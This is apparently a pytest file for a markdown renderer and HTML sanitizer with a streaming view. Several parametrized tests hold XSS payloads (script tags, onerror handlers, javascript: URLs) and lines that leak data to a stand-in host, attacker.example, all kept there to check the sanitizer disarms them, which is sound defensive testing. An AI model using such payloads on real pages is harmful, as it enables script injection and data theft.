"""Markdown rendering, sanitizing, and the incremental view."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from claude_magic.core.turn import Block, TurnState
from claude_magic.render.markdown import HIGHLIGHT_LIMIT, finished_prefix_length, render_markdown, sanitize_html
from claude_magic.render.view import CURSOR, IncrementalView, Piece, answer_bundle

ANSWER = """# Caching

HTTP caching keeps **copies** of responses.

- `Cache-Control` says how long
- `ETag` lets clients revalidate

```python
headers = {"Cache-Control": "max-age=60"}
```

| header | meaning |
|:--|--:|
| Age | seconds in cache |

Done.
"""


def test_markdown_renders_common_constructs() -> None:
    html = render_markdown(ANSWER)
    for fragment in ("<h1>Caching</h1>", "<strong>copies</strong>", "<li><code>ETag</code>", "<pre style=",
                     "<table>", "<p>Done.</p>"):
        assert fragment in html


@pytest.mark.parametrize(
    "payload",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "![x](https://attacker.example/leak?secret=1)",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    ],
)
def test_untrusted_html_is_inert(payload: str) -> None:
    elements = parse_elements(render_markdown(payload))
    assert {tag for tag, _ in elements} <= {"p", "a"}
    for _, attrs in elements:
        assert set(attrs) <= {"href", "rel"}
        assert not (attrs.get("href") or "").startswith(("javascript:", "data:"))


def parse_elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements a browser would build from `markup` (text that merely looks like tags is not one)."""
    found: list[tuple[str, dict[str, str | None]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Collector().feed(markup)
    return found


def test_images_become_links_not_loads() -> None:
    html = render_markdown("![chart](https://example.com/c.png)")
    assert html == '<p><a href="https://example.com/c.png" rel="noopener noreferrer">[image: chart]</a></p>\n'


def test_finished_prefix_stops_before_the_block_being_written() -> None:
    text = "# Title\n\nFirst paragraph.\n\nSecond para\n"
    cut = finished_prefix_length(text)
    assert text[:cut] == "# Title\n\nFirst paragraph.\n\n"
    # Until its first line is complete, the new block may still be a continuation: nothing moves.
    assert finished_prefix_length("# Title\n\nFirst paragraph.\n\nSecond") == len("# Title\n\n")


def test_partial_last_line_never_freezes_the_block_above() -> None:
    # "Title\n-" could still become a setext heading; nothing is final yet.
    assert finished_prefix_length("Title\n-") == 0
    assert finished_prefix_length("Only one block\nstill going") == 0


def test_open_code_fence_is_one_unfinished_block() -> None:
    text = "Intro.\n\n```python\nx = 1\n\ny = 2\n"
    assert text[: finished_prefix_length(text)] == "Intro.\n\n"


def _stream_through_view(text: str, step: int) -> tuple[str, list[str]]:
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block("text")
    state.blocks.append(block)
    view = IncrementalView()
    frozen_html: list[str] = []
    tails: list[str] = []
    for start in range(0, len(text), step):
        block.parts.append(text[start : start + step])
        frozen, tail = view.advance(state)
        if frozen:
            frozen_html.append(frozen.html)
        tails.append(tail.text)
    frozen, tail = view.advance(state)
    return "".join(frozen_html) + (frozen.html if frozen else ""), tails


@pytest.mark.parametrize("step", [1, 3, 7, 40])
def test_incremental_pieces_add_up_to_the_whole_rendering(step: int) -> None:
    frozen_html, _ = _stream_through_view(ANSWER, step)
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming", blocks=[Block("text", [ANSWER])])
    whole = render_markdown(ANSWER)
    assert whole.startswith(frozen_html)
    tail_source = ANSWER[len("".join(p for p in _frozen_sources(ANSWER, step))):]
    assert frozen_html + render_markdown(tail_source) == whole
    assert answer_bundle(state)["text/html"].startswith(whole)


def _frozen_sources(text: str, step: int) -> list[str]:
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block("text")
    state.blocks.append(block)
    view = IncrementalView()
    sources = []
    for start in range(0, len(text), step):
        block.parts.append(text[start : start + step])
        frozen, _ = view.advance(state)
        if frozen:
            sources.append(frozen.text)
    return sources


def test_tail_stays_small_while_the_answer_grows() -> None:
    paragraphs = "".join(f"Paragraph {i} has a few words in it.\n\n" for i in range(300))
    _, tails = _stream_through_view(paragraphs, 5)
    assert max(len(tail) for tail in tails) < 100  # at most two paragraphs, never the whole answer (11 kB)


def test_waiting_indicator_until_first_token() -> None:
    state = TurnState(model="m", prompt="p", started_at=0.0)
    _, tail = IncrementalView().advance(state)
    assert "Waiting for Claude" in tail.html


# ---------------------------------------------------------------------------------------------------------
# The live cursor: right after the last character, inside the innermost element being written
# ---------------------------------------------------------------------------------------------------------

VOID = {"br", "hr"}


class CursorFinder(HTMLParser):
    """Checks that markup is well-formed and notes where the cursor span sits: the open elements around
    it, the text before it, and the element the text right before it belongs to."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.starts: list[int] = []  # where each open element's text starts
        self.text: list[str] = []
        self.cursors = 0
        self.at_cursor: list[str] = []
        self.text_before = ""  # all text before the cursor
        self.inner_before = ""  # the text of the cursor's element before the cursor
        self._in_cursor = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "span" and ("class", "claude-magic-cursor") in attrs:
            self.cursors += 1
            self.at_cursor = list(self.stack)
            self.text_before = "".join(self.text)
            self.inner_before = self.text_before[self.starts[-1]:] if self.starts else self.text_before
            self._in_cursor = True
        if tag not in VOID:
            self.stack.append(tag)
            self.starts.append(len("".join(self.text)))

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack}"
        self.stack.pop()
        self.starts.pop()
        self._in_cursor = False

    def handle_data(self, data: str) -> None:
        if not self._in_cursor:
            self.text.append(data)


def cursor_in(markup: str) -> CursorFinder:
    finder = CursorFinder()
    finder.feed(markup)
    finder.close()
    assert not finder.stack, f"unclosed elements {finder.stack} in {markup!r}"
    return finder


def live_tail(text: str, kind: str = "text") -> Piece:
    """The live tail after `text` streamed into one block (several frames, as in a real turn)."""
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block(kind)
    state.blocks.append(block)
    view = IncrementalView()
    tail = None
    for start in range(0, len(text), 7):
        block.parts.append(text[start : start + 7])
        _, tail = view.advance(state)
    assert tail is not None
    return tail


@pytest.mark.parametrize(
    ("source", "innermost", "last"),
    [
        ("Intro.\n\nA paragraph being writ", ["p"], "writ"),
        ("Intro.\n\n## A heading being writ", ["h2"], "writ"),
        ("Intro.\n\nSetext heading\n---", ["h2"], "heading"),
        ("- first\n- second item being writ", ["ul", "li"], "writ"),
        ("1. first\n2. second item being writ", ["ol", "li"], "writ"),
        ("- first\n  - nested\n    - deeper item being writ", ["ul", "li", "ul", "li", "ul", "li"], "writ"),
        ("- loose\n\n- second item being writ", ["ul", "li", "p"], "writ"),
        ("> a quote being writ", ["blockquote", "p"], "writ"),
        ("> - a list in a quote being writ", ["blockquote", "ul", "li"], "writ"),
        ("| a | b |\n|---|--:|\n| x | being writ", ["table", "tbody", "tr", "td"], "writ"),
        ("| a | head being writ", ["p"], "writ"),  # not a table (yet): a paragraph
        ("```python\ndef f(x):\n    return x + 1\n", ["pre", "code"], "1"),
        ("```python\ndef f(x):\n    return 'being writ", ["pre", "code"], "writ"),
        ("```\nplain code\n\n", ["pre", "code"], "code"),
        ("Intro.\n\n    indented code\n", ["pre", "code"], "code"),
        ("- a `code span", ["ul", "li"], "span"),
        ("- an inline `code`", ["ul", "li", "code"], "code"),
        ("see [a link](https://example.com)", ["p"], "link"),
    ],
)
def test_cursor_sits_right_after_the_last_character(source: str, innermost: list[str], last: str) -> None:
    tail = live_tail(source)
    found = cursor_in(tail.html)
    assert found.cursors == 1
    assert found.at_cursor == innermost, tail.html
    assert found.inner_before.endswith(last), f"{found.inner_before!r} in {tail.html}"
    assert found.inner_before == found.inner_before.rstrip()  # no space or newline before the cursor
    assert tail.html.replace(CURSOR, "") == render_markdown(tail.text)  # the structure is untouched


def test_cursor_in_thinking_and_tool_input_follows_their_text() -> None:
    for kind, text, element in (("thinking", "Let me think about it\n", "div"), ("tool_use", '{"city": "Par', "pre")):
        found = cursor_in(live_tail(text, kind).html)
        assert found.at_cursor[-1] == element and found.text_before.rstrip() == found.text_before
        assert found.text_before.endswith(text.strip()[-3:])


def test_cursor_never_breaks_the_structure_while_an_answer_streams() -> None:
    """Every frame of a mixed answer, one character at a time: one cursor, well-formed, never on a line
    of its own, and the frame without it is exactly the tail's rendering."""
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block("text")
    state.blocks.append(block)
    view = IncrementalView()
    nested = "- a\n  - nested\n> quote\n\n    indented\n\n```\nplain\n```\n"
    for char in ANSWER + nested:
        block.parts.append(char)
        _, tail = view.advance(state)
        found = cursor_in(tail.html)
        assert found.cursors == 1 and found.at_cursor, tail.html
        assert found.inner_before == found.inner_before.rstrip(), tail.html  # right after the last character
        assert tail.html.replace(CURSOR, "") == render_markdown(tail.text)


def test_cursor_is_inserted_after_sanitizing_and_only_once() -> None:
    tail = live_tail('Text with a fake <span class="claude-magic-cursor">▍</span> in it').html
    assert tail.count(CURSOR) == 1 and tail.endswith(CURSOR + "</p>\n")


# ---------------------------------------------------------------------------------------------------------
# Code blocks, tables, inline styles
# ---------------------------------------------------------------------------------------------------------

CODE = 'def area(r: float) -> float:\n    """Circle."""\n    return 3.14 * r ** 2  # pi r squared\n'


class Styles(HTMLParser):
    """Elements with their style attributes, and the document's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def styles_of(markup: str) -> Styles:
    parsed = Styles()
    parsed.feed(markup)
    parsed.close()
    return parsed


def test_python_fence_is_highlighted_with_inline_colours_and_copies_exactly() -> None:
    markup = render_markdown(f"```python\n{CODE}```\n")
    parsed = styles_of(markup)
    colours = {m.group(1) for _, attrs in parsed.elements
               if (m := re.search(r"color:(#[0-9a-f]{6})", attrs.get("style") or "")) and _ == "span"}
    assert len(colours) >= 3, markup
    assert any("font-weight:bold" in (attrs.get("style") or "") for tag, attrs in parsed.elements if tag == "span")
    assert "".join(parsed.text) == CODE + "\n"  # selecting it copies exactly the code (+ the newline after </pre>)
    tags = [tag for tag, _ in parsed.elements]
    assert tags[:2] == ["pre", "code"] and set(tags[2:]) == {"span"}
    pre_style = parsed.elements[0][1]["style"] or ""
    assert "background-color:#" in pre_style and "padding" in pre_style


def test_unlabelled_and_unknown_fences_get_the_box_but_no_guessing() -> None:
    indented = "".join(f"    {line}\n" for line in CODE.splitlines())
    for source in (f"```\n{CODE}```\n", f"```nosuchlanguage\n{CODE}```\n", indented):
        parsed = styles_of(render_markdown(source))
        assert [tag for tag, _ in parsed.elements] == ["pre", "code"], source
        assert "background-color" in (parsed.elements[0][1]["style"] or "")
        assert "".join(parsed.text).strip() == CODE.strip()


def test_very_long_code_blocks_are_shown_plain() -> None:
    code = "x = 1\n" * (HIGHLIGHT_LIMIT // 6 + 1)
    assert "<span" not in render_markdown(f"```python\n{code}```\n")
    assert "<span" in render_markdown(f"```python\n{code[:600]}```\n")


_SAFE_VALUE = r"(?:[#a-z0-9.% -]+|var\(--jp-[a-z0-9-]+, #[0-9a-f]{3,8}\))"
SAFE_STYLE = re.compile(rf"^(?:[a-z-]+:{_SAFE_VALUE})(?:;[a-z-]+:{_SAFE_VALUE})*$")


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ('python" onmouseover="alert(1)', "x = 1\n"),
        ('"><script>alert(1)</script>', "x = 1\n"),
        ("javascript:alert(1)", "alert(1)\n"),
        ("python style=background:url(https://attacker.example/x)", "x\n"),
        ("html", '</code></pre><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>\n'),
        ("python", '"\'><svg onload=alert(1)> </span><span style="background:url(https://attacker.example/)">\n'),
        ("javascript", "const s = '</code>\"><iframe src=javascript:alert(1)>';\n"),
        ("css", "body { background: url(https://attacker.example/leak); }\n"),
    ],
)
def test_fence_language_and_code_cannot_inject_tags_or_attributes(language: str, code: str) -> None:
    markup = render_markdown(f"```{language}\n{code}```\n")
    parsed = styles_of(markup)
    assert {tag for tag, _ in parsed.elements} <= {"pre", "code", "span"}, markup
    for tag, attrs in parsed.elements:
        assert set(attrs) <= {"style"}, (tag, attrs)
        style = attrs.get("style") or ""
        assert SAFE_STYLE.match(style), (tag, style)
        assert "url" not in style and "expression" not in style
    assert "".join(parsed.text) == code + "\n"  # shown, as text (the newline after </pre> too)


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ('<span style="color:#f00;background:url(https://attacker.example/x);position:fixed">x</span>',
         '<span style="color:#f00">x</span>'),
        ('<span style="position:absolute;top:0">x</span>', "<span>x</span>"),
        ('<span style="color:expression(alert(1))">x</span>', "<span>x</span>"),
        ('<span style="color:red;background-image:url(x)">x</span>', '<span style="color:red">x</span>'),
        ('<pre style="background-color:url(x);padding:2px">x</pre>', '<pre style="padding:2px">x</pre>'),
        ('<pre style="background:url(https://attacker.example/x)">x</pre>', "<pre>x</pre>"),
        ('<code style="color:#123;font-family:x">x</code>', '<code style="color:#123">x</code>'),
        ('<td style="color:red;text-align:left">x</td>', '<td style="text-align:left">x</td>'),
        ('<p style="color:red">x</p>', "<p>x</p>"),
        ('<span style="color:\\72 ed">x</span>', "<span>x</span>"),
        ('<span style="color:red/*x*/">x</span>', "<span>x</span>"),
    ],
)
def test_sanitizer_keeps_only_safe_inline_styles(markup: str, kept: str) -> None:
    assert kept in sanitize_html(f"<table><tr>{markup}</tr></table>" if markup.startswith("<td") else markup)


def test_table_cells_are_left_aligned_unless_the_column_says_otherwise() -> None:
    parsed = styles_of(render_markdown("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |\n"))
    cells = [attrs.get("style") for tag, attrs in parsed.elements if tag in ("th", "td")]
    assert cells == ["text-align:left", "text-align:center", "text-align:right"] * 2


def test_finished_answers_carry_no_style_element() -> None:
    state = TurnState(model="m", prompt="p", started_at=0.0, status="complete", stop_reason="max_tokens",
                      blocks=[Block("text", [ANSWER], complete=True)], finished_at=1.0)
    markup = answer_bundle(state)["text/html"]
    assert "<style" not in markup
    assert 'class="claude-magic-warning" style="color:' in markup
    assert 'class="claude-magic-footer" style="color:' in markup


# ---------------------------------------------------------------------------------------------------------
# A cited answer live: its passages (text blocks of their own) stay in their paragraphs, as in the final view
# ---------------------------------------------------------------------------------------------------------

def _citation(n: int) -> dict[str, object]:
    return {"type": "web_search_result_location", "url": f"https://example.com/{n}", "title": f"Page {n}",
            "cited_text": f"quoted {n}", "encrypted_index": "e"}


def _stream_passages(passages: list[tuple[str, int | None]], step: int) -> tuple[list[str], list[str], str]:
    """Streams text blocks (text, cited source number or None) through IncrementalView: the page after each
    frame (frozen pieces so far + the live tail), the tails, and the final rendering."""
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    view = IncrementalView()
    frozen_html = ""
    pages: list[str] = []
    tails: list[str] = []
    for text, cited in passages:
        block = Block("text", citations=[_citation(cited)] if cited is not None else [])
        state.blocks.append(block)
        for start in range(0, len(text), step):
            block.parts.append(text[start : start + step])
            frozen, tail = view.advance(state)
            frozen_html += frozen.html if frozen else ""
            pages.append(frozen_html + tail.html.replace(CURSOR, ""))
            tails.append(tail.html)
    state.status = "complete"
    return pages, tails, answer_bundle(state)["text/html"]


@pytest.mark.parametrize("step", [1, 4, 50])
def test_a_cited_passage_stays_in_its_paragraph_while_streaming(step: int) -> None:
    passages = [("# Release\n\nThe newest release: ", None), ("Python 3.14 is out", 1),
                (", with free threading", None), (" and a JIT", 2), (".\n\nNext paragraph", None),
                (" cites again", 1), (".", None)]
    pages, _, final = _stream_passages(passages, step)
    paragraph = ('<p>The newest release: Python 3.14 is out<sup><a href="https://example.com/1"')
    assert paragraph in final and "[2]</a></sup>.</p>" in final  # the final view, for reference
    last = pages[-1]
    assert final.startswith(last)  # the last live frame is the final answer (sources and footer follow)
    for page in pages:
        assert "<p>Python 3.14" not in page and "<p>, with" not in page and "<p> and a JIT" not in page, page
        assert "<p>.</p>" not in page and "<p> cites again" not in page
    # A passage cited again keeps its number; the markers appear once a passage is finished, after its words.
    assert last.count(">[1]</a></sup>") == 2 and last.count(">[2]</a></sup>") == 1
    assert "<p>Next paragraph cites again<sup>" in last


def test_a_long_cited_answer_keeps_each_frame_small() -> None:
    # Many short paragraphs, each a run of passages: the live tail holds the paragraph being written, never
    # the answer so far (what is carried from one passage into the next is the open paragraph only).
    passages: list[tuple[str, int | None]] = []
    for n in range(200):
        passages += [(f"Paragraph {n} says ", None), (f"something cited {n}", n % 7), (".\n\n", None)]
    pages, tails, final = _stream_passages(passages, 3)
    assert final.startswith(pages[-1]) and len(final) > 20_000
    assert max(len(tail) for tail in tails) < 600
